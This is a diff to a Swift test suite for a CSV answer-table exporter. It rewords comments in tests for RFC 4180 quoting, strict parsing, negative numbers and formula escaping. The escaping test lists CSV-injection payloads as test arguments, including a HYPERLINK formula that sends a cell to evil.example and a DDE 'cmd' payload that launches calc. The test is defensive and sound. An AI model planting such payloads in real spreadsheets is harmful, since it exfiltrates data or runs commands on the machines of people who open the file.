@@ -2,7 +2,7 @@ import Testing
 
 @testable import WaybillExport
 
-/// Tables for programs.
+/// CSV tables of answers.
 @Suite(.timeLimit(.minutes(5))) struct AnswerTableTests {
     @Test func cellsAreQuotedByRFC4180() {
         var table = AnswerTable(columns: [.init("a"), .init("b")])
@@ -12,7 +12,7 @@ import Testing
         #expect(String(decoding: table.csv, as: UTF8.self) == "a,b\r\n\"x,\"\"y\"\"\r\n\",\r\n,-5\r\n")
     }
 
-    /// Read as RFC 4180 has it, byte by byte: a line's end outside quotation marks is CR and LF, and nothing else.
+    /// Reads CSV strictly by RFC 4180, byte by byte: outside quotation marks, only CR and LF end a line.
     private func rows(_ bytes: [UInt8]) throws -> [[String]] {
         struct NotStrict: Error { var byte: Int }
         var (rows, row, cell, index) = ([[String]](), [String](), [UInt8](), 0)
@@ -55,7 +55,7 @@ import Testing
         #expect(try rows(table.csv) == [["a", "b"], [text, "next"]])
     }
 
-    /// Breaks when a spreadsheet computes what an app has recorded: a formula there can send the other cells away.
+    /// Breaks when a spreadsheet evaluates recorded text: a formula can send the other cells to another server.
     @Test(arguments: [
         "=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
         "\n=1+1", "'=1+1", "'quoted'", "=1,\"+2\"",
@@ -63,7 +63,7 @@ import Testing
         var table = AnswerTable(columns: [.init("a"), .init("b")])
         table.rows = [.init([.text(text), .text("plain")])]
         let row = String(decoding: table.csv, as: UTF8.self).dropFirst("a,b\r\n".count)
-        // The cell as RFC 4180 has a reader take it.
+        // The cell as a reader by RFC 4180 sees it.
         let quoted = row.first == "\""
         let end = quoted ? "\",plain\r\n" : ",plain\r\n"
         #expect(row.hasSuffix(end))
@@ -72,7 +72,7 @@ import Testing
         #expect(cell.unicodeScalars.dropFirst().elementsEqual(text.unicodeScalars))
     }
 
-    /// Breaks when what is below 0 is a text in a spreadsheet, and no sum has it.
+    /// Breaks when negative numbers become text in a spreadsheet, which sums leave out.
     @Test func numbersStayNumbers() {
         var table = AnswerTable(columns: [.init("a")])
         let values: [AnswerTable.Value] = [.count(-5), .number(-0.25), .number(nil), .text("1-2"), .text("a=b")]
